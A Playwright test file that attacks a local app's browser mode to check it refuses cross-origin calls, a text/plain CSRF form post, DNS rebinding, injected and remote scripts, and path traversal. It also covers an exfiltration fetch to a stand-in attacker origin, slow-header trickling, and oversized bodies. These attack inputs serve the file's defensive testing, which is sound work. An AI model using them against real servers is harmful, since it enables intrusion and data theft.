import { createServer, type IncomingMessage, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import config from '../../playwright.config';
import { CONTENT_SECURITY_POLICY } from '../../main/security/content-security-policy';
import { freshDataDir, startBrowserMode, type RunningApp } from './support/app-process';
import { createOrganization, rootAdmin } from './support/first-run';

// Browser mode attacked from a real Chromium: by a page of another origin, through DNS
// rebinding, by injected script, and by hand-made URLs. The rebinding host name resolves to
// 127.0.0.1 inside this browser only, as an attacker's DNS would answer after a first visit.
const REBIND_HOST = 'rebind.test';
const baseLaunch = config.use?.launchOptions ?? {};
test.use({ launchOptions: { ...baseLaunch, args: [...(baseLaunch.args ?? []), `--host-resolver-rules=MAP ${REBIND_HOST} 127.0.0.1`] } });

const CLIENT_ID = 'attacker-tab-0001';
const organization = { organizationName: 'Pwned District', adminName: 'Mallory', email: 'mallory@evil.example', password: 'correct horse battery' };

interface Attacker {
  origin: string;
  /** Paths the attacker's server was asked for: what its pages managed to send home. */
  received: string[];
  close(): Promise<void>;
}

/** A web page of another origin, on another 127.0.0.1 port, as any site the admin visits. */
async function startAttacker(appOrigin: string): Promise<Attacker> {
  const received: string[] = [];
  // A form post needs no script and no CORS: the oldest way to reach a local server.
  const page = `<!doctype html><title>Free stickers</title>
    <form id="post" method="POST" enctype="text/plain" action="${appOrigin}/api/setup.createOrganization">
      <input name='${JSON.stringify(organization).slice(0, -1)},"pad":"' value='"}'>
    </form>`;
  const server: Server = createServer((req: IncomingMessage, res) => {
    received.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

let data: ReturnType<typeof freshDataDir>;
let app: RunningApp;
let attacker: Attacker;

test.beforeEach(async () => {
  data = freshDataDir();
  app = await startBrowserMode(data.dir);
  attacker = await startAttacker(app.origin);
});

test.afterEach(async () => {
  await attacker.close();
  await app.stop();
  data.remove();
});

/** The organization as the app itself sees it, asked with the key: did any attack change it? */
async function organizationName(): Promise<string | null> {
  const answer = await fetch(`${app.origin}/api/app.status`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${app.key}`, 'X-Client-Id': 'hardening-check-01' },
    body: '{}',
  });
  return ((await answer.json()) as { value: { organizationName: string | null } }).value.organizationName;
}

/** Runs fetch inside the page; answers the status, or the error the page's script saw. */
function fetchFromPage(page: Page, url: string, init: RequestInit): Promise<number | string> {
  return page.evaluate(
    async ([target, options]) => {
      try {
        return (await fetch(target, options)).status;
      } catch (error) {
        return String(error);
      }
    },
    [url, init] as const,
  );
}

test('a page of another origin cannot call the API, with or without a guessed key', async ({ page }) => {
  const failures: string[] = [];
  page.on('requestfailed', (request) => failures.push(request.failure()?.errorText ?? ''));
  await page.goto(attacker.origin);
  const call = (init: RequestInit) =>
    fetchFromPage(page, `${app.origin}/api/setup.createOrganization`, { method: 'POST', body: JSON.stringify(organization), ...init });

  // JSON or an Authorization header needs a CORS preflight, which the server refuses.
  expect(await call({ headers: { 'Content-Type': 'application/json', 'X-Client-Id': CLIENT_ID } })).toMatch(/TypeError: Failed to fetch/);
  expect(await call({ headers: { 'Content-Type': 'application/json', 'X-Client-Id': CLIENT_ID, Authorization: 'Bearer guessed-key' } })).toMatch(
    /TypeError: Failed to fetch/,
  );
  // A no-cors request is sent without preflight; the server refuses it, and its
  // Cross-Origin-Resource-Policy keeps even the opaque answer from the page.
  expect(await call({ mode: 'no-cors' })).toMatch(/TypeError: Failed to fetch/);
  expect(failures).toEqual(['net::ERR_FAILED', 'net::ERR_FAILED', 'net::ERR_BLOCKED_BY_RESPONSE.NotSameOrigin']);

  expect(await organizationName()).toBeNull();
});

test('a form posted from another origin is refused', async ({ page }) => {
  await page.goto(attacker.origin);
  const [answer] = await Promise.all([
    page.waitForResponse(`${app.origin}/api/setup.createOrganization`),
    page.locator('#post').evaluate((form: HTMLFormElement) => form.submit()),
  ]);
  expect(answer.status()).toBe(403);
  expect(await answer.json()).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  expect(await organizationName()).toBeNull();
});

test('the same origin without the key, or with a guessed one, is refused with 401', async ({ page }) => {
  // Someone who reached the page but never saw the printed address.
  await page.goto(`${app.origin}/`);
  const call = (headers: Record<string, string>) =>
    fetchFromPage(page, '/api/setup.createOrganization', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-Client-Id': CLIENT_ID, ...headers },
      body: JSON.stringify(organization),
    });
  expect(await call({})).toBe(401);
  expect(await call({ Authorization: `Bearer ${'A'.repeat(app.key.length)}` })).toBe(401);
  expect(await organizationName()).toBeNull();
});

test('the event stream is refused without the key', async ({ page }) => {
  await page.goto(`${app.origin}/`);
  expect(await fetchFromPage(page, '/api/events', {})).toBe(401);
  expect(await fetchFromPage(page, '/api/events?key=guessed-key', {})).toBe(401);
  const state = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        const source = new EventSource('/api/events');
        source.onerror = () => resolve(source.readyState);
      }),
  );
  expect(state).toBe(2); // EventSource.CLOSED: a refused stream is not retried
});

test('a request addressed to another host name is refused (DNS rebinding)', async ({ page }) => {
  const rebound = `http://${REBIND_HOST}:${new URL(app.origin).port}`;
  for (const path of ['/', `/api/events?key=${app.key}`]) {
    const answer = await page.goto(`${rebound}${path}`);
    expect(answer?.status(), path).toBe(403);
    expect(await answer?.json(), path).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  }
});

test('the page is served with its CSP header, and Chromium enforces it', async ({ page }) => {
  const response = await page.goto(app.url);
  expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  await expect(page.getByRole('heading', { name: 'Welcome to Managed Distribution' })).toBeVisible();

  const attempts = await page.evaluate(async (attackerOrigin) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
    const inline = document.createElement('script');
    inline.textContent = 'window.pwned = true';
    document.head.append(inline);
    const remote = document.createElement('script');
    remote.src = `${attackerOrigin}/payload.js`;
    document.head.append(remote);
    // Later, outside this evaluation: DevTools lets the code it evaluates itself use eval.
    const evaluated = await new Promise<string>((resolve) =>
      setTimeout(() => {
        try {
          new Function('return 1')();
          resolve('ran');
        } catch (error) {
          resolve(String(error));
        }
      }),
    );
    const exfiltration = await fetch(`${attackerOrigin}/steal?data=secret`).then(
      () => 'sent',
      (error: unknown) => String(error),
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { pwned: 'pwned' in window, evaluated, exfiltration, violations };
  }, attacker.origin);

  expect(attempts.pwned).toBe(false);
  expect(attempts.evaluated).toMatch(/EvalError/);
  expect(attempts.exfiltration).toMatch(/TypeError/);
  expect(attempts.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src']));
  expect(attacker.received.filter((path) => path !== '/')).toEqual([]);
});

test('no directory listing and no path out of the built renderer', async ({ page }) => {
  const paths = ['/assets/', '/assets', '/..%2f..%2fpackage.json', '/assets/..%2f..%2f..%2fpackage.json', '/%2e%2e/%2e%2e/package.json', '/main/index.ts'];
  for (const path of paths) {
    const response = await page.goto(`${app.origin}${path}`);
    expect(response?.status(), path).toBe(404);
    expect(await page.content(), path).not.toMatch(/managed-distribution-desktop|index-[\w-]+\.js/);
  }
});

test('with the key but nobody signed in, a tab hears no event, and its demo touches no one else', async ({ context }) => {
  const admin = await context.newPage();
  await createOrganization(admin, app.url);
  const adminTab = await admin.evaluate(() => sessionStorage.getItem('md.clientId')!);
  const call = async (clientId: string, channel: string, input: unknown) => {
    const answer = await fetch(`${app.origin}/api/${channel}`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${app.key}`, 'X-Client-Id': clientId },
      body: JSON.stringify(input),
    });
    return (await answer.json()) as { ok: boolean; value?: unknown };
  };

  // Someone holding the printed key opens the event stream of a tab of their own.
  const intruder = await context.newPage();
  await intruder.goto(`${app.origin}/`);
  await intruder.evaluate(
    (key) =>
      new Promise<void>((resolve) => {
        const heard: string[] = [];
        Object.assign(window, { heard });
        const source = new EventSource(`/api/events?key=${key}&client=intruder-tab-0001`);
        for (const name of ['directory.changed', 'distribution.changed', 'sync.changed', 'jobs.progress', 'app.connectivity']) {
          source.addEventListener(name, () => heard.push(name));
        }
        source.onopen = () => resolve();
      }),
    app.key,
  );
  expect(await call(adminTab, 'groups.create', { parentId: 1, name: 'Springfield High', kind: 'school' })).toMatchObject({ ok: true });
  expect(await call(adminTab, 'services.create', { groupId: 1, name: 'District apps' })).toMatchObject({ ok: true });
  // The admin's own tab hears the next change while the intruder's, open all along, hears none.
  const adminHeard = await admin.evaluate(
    (key) =>
      new Promise<string>((resolve) => {
        const tab = sessionStorage.getItem('md.clientId')!;
        const source = new EventSource(`/api/events?key=${key}&client=${tab}`);
        source.addEventListener('directory.changed', (event) => resolve((event as MessageEvent<string>).data));
        source.onopen = () => {
          void fetch('/api/groups.create', {
            method: 'POST',
            headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${key}`, 'X-Client-Id': tab },
            body: JSON.stringify({ parentId: 1, name: 'Shelbyville High', kind: 'school' }),
          });
        };
      }),
    app.key,
  );
  expect(JSON.parse(adminHeard)).toEqual({ groupIds: [expect.any(Number), 1] });
  expect(await intruder.evaluate(() => (window as unknown as { heard: string[] }).heard)).toEqual([]);

  // Opening and leaving the demo from that tab signs nobody out and changes nothing of theirs.
  expect(await call('intruder-tab-0001', 'demo.start', {})).toMatchObject({ ok: true, value: { name: 'Demo Admin' } });
  expect(await call(adminTab, 'app.status', {})).toMatchObject({ value: { demo: false, admin: { name: rootAdmin.name } } });
  expect(await call('intruder-tab-0001', 'demo.exit', {})).toMatchObject({ ok: true });
  await admin.reload();
  await expect(admin.getByLabel('Signed in as')).toHaveText(rootAdmin.name);
  await expect(admin.getByRole('tree', { name: 'Organization' }).getByRole('treeitem', { name: /Springfield High/ })).toBeVisible();
  expect(await intruder.evaluate(() => (window as unknown as { heard: string[] }).heard)).toEqual([]);
});

test('a client that trickles its headers, key or no key, is cut off within seconds', async () => {
  const { port } = new URL(app.origin);
  const started = Date.now();
  const answer = await new Promise<string>((resolve) => {
    const socket = connect(Number(port), '127.0.0.1');
    let received = '';
    socket.on('data', (chunk) => (received += chunk));
    socket.on('error', () => undefined);
    socket.write(`POST /api/app.status HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
    let header = 0;
    const drip = setInterval(() => socket.writable && socket.write(`X-Slow-${header++}: a\r\n`), 500);
    socket.on('close', () => {
      clearInterval(drip);
      resolve(received);
    });
  });
  expect(Date.now() - started).toBeLessThan(8_000);
  expect(answer).toMatch(/^HTTP\/1\.1 408/);
});

test('a call body over 8 MB is refused before it is held', async () => {
  const answer = await fetch(`${app.origin}/api/app.status`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${app.key}`, 'X-Client-Id': 'hardening-check-01' },
    body: JSON.stringify({ pad: 'x'.repeat(9 * 1024 * 1024) }),
  });
  expect(answer.status).toBe(413);
  expect(await answer.json()).toEqual({ ok: false, error: { code: 'VALIDATION', message: 'The request is too large.' } });
});
